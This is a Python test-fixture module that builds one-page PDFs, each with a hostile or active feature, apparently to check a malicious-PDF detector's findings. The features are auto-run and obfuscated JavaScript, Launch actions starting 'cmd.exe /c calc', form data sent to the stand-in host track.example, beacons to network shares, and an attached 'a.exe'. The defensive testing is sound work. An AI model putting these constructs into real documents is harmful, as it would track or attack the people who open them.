"""Write PDFs that do something: one hostile file for each thing that a file can do, or hide it.

Each file is one page with a text; `acting` puts entries into its catalogue and its page, and adds
objects from number 7 on. Nothing in here ever runs: the scripts show a box, the hosts are reserved.
"""

import zlib
from typing import Final

from tests.signatures.pdf.letters import assemble

CONTENT: Final = b"BT /F1 11 Tf 72 700 Td (Dear Sir,) Tj ET"


def stream(data: bytes, entries: str = "") -> bytes:
    """Return a stream object."""
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries.encode(), len(data), data)


def acting(catalogue: str = "", page: str = "", *more: str | bytes) -> bytes:
    """Return a document whose catalogue and page hold these entries, with more objects from 7."""
    objects = [
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        f" /Resources << /Font << /F1 5 0 R >> >> {page} >>".encode(),
        stream(CONTENT),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Producer (Letter Writer 1.0) >>",
    ]
    return assemble([*objects, *(one.encode() if isinstance(one, str) else one for one in more)])


def mark(entries: str, kind: str = "Link") -> str:
    """Return the page's entry for one annotation."""
    return f"/Annots [<< /Type /Annot /Subtype /{kind} /Rect [9 9 99 99] {entries} >>]"


def script(text: str) -> str:
    """Return a script as an action."""
    return f"<< /S /JavaScript /JS ({text}) >>"


def sent(data: str) -> str:
    """Return an action that sends the form to an address."""
    return f"<< /S /SubmitForm /F << /FS /URL /F ({data}) >> >>"


def asks(address: str) -> str:
    """Return an action that opens an address."""
    return f"<< /S /URI /URI ({address}) >>"


ALERT: Final = script(r"app.alert\(1\)")
FIELD: Final = "/FT /Tx /T (amount)"
PACKET: Final = b"<xdp><template><event><script>xfa.host.gotoURL('x')</script></event></template>"
HIDDEN: Final = zlib.compress(b"app.launchURL('https://log.example/x?y=1')")

FILES: Final[dict[str, tuple[bytes, str, str]]] = {
    "opening-runs-a-script": (
        acting(f"/OpenAction {ALERT}"),
        "script-in-document",
        'Opening the document runs a script: "app.alert(1)".',
    ),
    "opening-runs-a-packed-script": (
        acting(
            "/OpenAction << /S /JavaScript /JS 7 0 R >>",
            "",
            stream(HIDDEN, "/Filter /FlateDecode"),
        ),
        "script-in-document",
        'It names "https://log.example/x?y=1".',
    ),
    "name-in-hexadecimal": (
        acting("/Open#41ction << /S /J#61vaScript /JS <feff006100700070> >>"),
        "script-in-document",
        'Opening the document runs a script: "app".',
    ),
    "list-of-scripts": (
        acting(f"/Names << /JavaScript << /Kids [<< /Names [(a) {ALERT} (b) {ALERT}] >>] >> >>"),
        "script-in-document",
        "Opening the document runs a script",
    ),
    "closing-runs-a-script": (
        acting(f"/AA << /WC {ALERT} >>"),
        "script-in-document",
        "Closing the document runs a script",
    ),
    "printing-runs-a-script": (
        acting(f"/AA << /WP {ALERT} >>"),
        "script-in-document",
        "Printing the document runs a script",
    ),
    "showing-runs-a-script": (
        acting("", f"/AA << /O {ALERT} >>"),
        "script-in-document",
        "Opening the document at page 1 runs a script",
    ),
    "mark-runs-a-script": (
        acting("", mark(f"/AA << /PV {ALERT} >>")),
        "script-in-document",
        "Opening the document at page 1 runs a script",
    ),
    "leaving-runs-a-script": (
        acting("", mark(f"/AA << /PC {ALERT} >>")),
        "script-in-document",
        "Leaving page 1 runs a script",
    ),
    "harmless-first-then-a-script": (
        acting(f"/OpenAction << /S /Named /N /FirstPage /Next [{ALERT}] >>"),
        "script-in-document",
        "Opening the document runs a script",
    ),
    "script-in-a-rendition": (
        acting(r"/OpenAction << /S /Rendition /JS (app.alert\(1\)) >>"),
        "script-in-document",
        "Opening the document runs a script",
    ),
    "field-runs-a-script": (
        acting(
            "/AcroForm << /Fields [7 0 R] >>",
            "/Annots [7 0 R]",
            f"<< {FIELD} /AA << /K {ALERT} >> >>",
        ),
        "script-on-use",
        '1 script runs when somebody clicks or fills something in, in the fields "amount"',
    ),
    "link-runs-a-script": (
        acting("", mark(r"/A << /S /URI /URI (javascript:alert\(1\)) >>")),
        "script-on-use",
        "javascript:alert(1)",
    ),
    "outline-runs-a-script": (
        acting(f"/Outlines << /First << /Title (a) /A {ALERT} >> >>"),
        "script-on-use",
        "app.alert(1)",
    ),
    "opening-asks-a-server": (
        acting("/OpenAction << /S /URI /URI (https://track.example/u/ann) >>"),
        "remote-content",
        'whoever runs "track.example" learns that it was read, when, and from which address.',
    ),
    "opening-writes-a-mail": (
        acting("/OpenAction << /S /URI /URI (mailto:ann@track.example) >>"),
        "launch-by-itself",
        'starts a program or opens a file: "mailto:ann@track.example"',
    ),
    "opening-opens-a-file-by-address": (
        acting("/OpenAction << /S /URI /URI (file:///C:/a.exe) >>"),
        "launch-by-itself",
        'starts a program or opens a file: "file:///C:/a.exe"',
    ),
    "opening-asks-an-address-with-a-script": (
        acting(r"/OpenAction << /S /URI /URI (javascript:alert\(1\)) >>"),
        "script-in-document",
        "javascript:alert(1)",
    ),
    "opening-sends-the-form-by-mail": (
        acting(f"/OpenAction {sent('mailto:ann@track.example')}"),
        "remote-content",
        'sends what is filled in to "mailto:ann@track.example": whoever is behind it learns',
    ),
    "opening-sends-the-form": (
        acting(f"/OpenAction {sent('https://track.example/f')}"),
        "remote-content",
        'sends what is filled in to "https://track.example/f"',
    ),
    "opening-asks-a-share": (
        acting(r"/OpenAction << /S /GoToR /F (\\\\track.example\\s\\a.pdf) /D [0 /Fit] >>"),
        "remote-content",
        'whoever runs "track.example" learns',
    ),
    "opening-starts-a-program": (
        acting(r"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"),
        "launch-by-itself",
        'Opening the document starts a program or opens a file: "cmd.exe /c calc".',
    ),
    "opening-opens-an-attached-file": (
        acting("/OpenAction << /S /GoToE /F (inner.pdf) >>"),
        "launch-by-itself",
        'Opening the document opens another file: "inner.pdf".',
    ),
    "link-starts-a-program": (
        acting("", mark("/A << /S /Launch /F (calc.exe) >>")),
        "launch-action",
        '1 link would open another file or start a program: "calc.exe".',
    ),
    "file-with-two-names": (
        acting("", mark("/A << /S /Launch /F << /UF (letter.pdf) /F (calc.exe) >> >>")),
        "launch-action",
        '"letter.pdf calc.exe"',
    ),
    "click-sends-the-form": (
        acting("", mark(f"{FIELD} /A {sent('https://track.example/f?who=ann')}", "Widget")),
        "form-sends",
        "A click sends what is filled in to track.example.",
    ),
    "click-takes-data": (
        acting("", mark("/A << /S /ImportData /F (values.fdf) >>")),
        "form-takes",
        'A click takes values for its form from a file: "values.fdf".',
    ),
    "opening-takes-data": (
        acting("/OpenAction << /S /ImportData /F (values.fdf) >>"),
        "form-takes",
        'Opening the document takes values for its form from a file: "values.fdf".',
    ),
    "film": (
        acting("", mark("", "RichMedia")),
        "rich-media",
        "Films, sounds or spaces are in it (RichMedia), on the pages 1.",
    ),
    "space": (acting("", mark("", "3D")), "rich-media", "(3D)"),
    "click-plays-a-film": (
        acting("", mark("/A << /S /Movie /T (a) >>")),
        "rich-media",
        "A click plays or controls a film, a sound or a space.",
    ),
    "opening-plays-a-film": (
        acting("/OpenAction << /S /RichMediaExecute >>"),
        "media-by-itself",
        "Opening the document plays or controls a film, a sound or a space.",
    ),
    "picture-elsewhere": (
        acting("/Thing << /Type /Filespec /FS /URL /F (https://track.example/p.png) >>"),
        "linked-object",
        '"https://track.example/p.png"',
    ),
    "picture-on-a-share": (
        acting("/X 7 0 R", "", stream(b"", "/Subtype /Image /F (" + r"\\\\track.example\\p.jpg)")),
        "linked-object",
        r'"\\track.example\p.jpg"',
    ),
    "page-on-a-share": (
        acting("/X << /Ref << /F (" + r"\\\\track.example\\p.pdf" + ") /Page 0 >> >>"),
        "linked-object",
        r'"\\track.example\p.pdf"',
    ),
    "address-that-a-base-completes": (
        acting(f"/URI << /Base (https://log.example/x/) >> /OpenAction {asks('a?y=1')}"),
        "remote-content",
        'asks for "https://log.example/x/a?y=1": whoever runs "log.example"',
    ),
    "link-that-a-base-completes": (
        acting("/URI << /Base (https://log.example/x/) >>", mark(f"/A {asks('a?y=1')}")),
        "links-out",
        "Links lead out of the document, to log.example.",
    ),
    "form-in-one-piece-named-often": (
        acting("/AcroForm << /XFA [" + "(a) 7 0 R " * 30 + "] >>", "", stream(PACKET)),
        "xfa-form",
        "; 1 script in it.",
    ),
    "form-with-scripts": (
        acting("/AcroForm << /Fields [] /XFA [(template) 7 0 R] >>", "", stream(PACKET)),
        "xfa-form",
        "1 script in it",
    ),
    "file-on-a-mark": (
        acting(
            "",
            mark(
                "/FS << /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 7 0 R >> >>",
                "FileAttachment",
            ),
            stream(b"MZ..."),
        ),
        "attached-file",
        "A file is attached: “a.exe”, 5 bytes, SHA-256 ",
    ),
    "file-that-no-list-names": (
        acting("/AF [<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>]", "", stream(b"MZ...")),
        "attached-file",
        'Files are inside that no list of attachments names: "a.exe".',
    ),
    "action-that-nothing-leads-to": (
        acting(f"/Private << /Somewhere [{ALERT}] >>"),
        "action-without-cause",
        'Nothing that was read leads to 1 action in it: JavaScript: "app.alert(1)".',
    ),
    "entry-that-stands-twice": (
        acting(f"/OpenAction << /S /Named /N /FirstPage >> /OpenAction {ALERT}"),
        "entry-twice",
        "/OpenAction",
    ),
    "entry-that-counts-second": (
        acting(f"/OpenAction << /S /Named /N /FirstPage >> /OpenAction {ALERT}"),
        "script-in-document",
        "Opening the document runs a script",
    ),
    "file-that-a-viewer-mends": (
        acting(f"/OpenAction {ALERT}").replace(b"xref\n0", b"xrfe\n0"),
        "script-in-document",
        "Opening the document runs a script",
    ),
    "encrypted-for-nobody": (
        acting(f"/OpenAction {ALERT}").replace(b"/ID [", b"/Encrypt 5 /ID ["),
        "script-in-document",
        "Opening the document runs a script",
    ),
    "objects-that-cannot-be-read": (
        acting(f"/OpenAction {ALERT}").replace(b"/ID [", b"/Encrypt << /Filter /No >> /ID ["),
        "action-without-cause",
        "JavaScript, OpenAction",
    ),
}
"""Name of an attack to its file, the code that must tell it, and words of the sentence."""
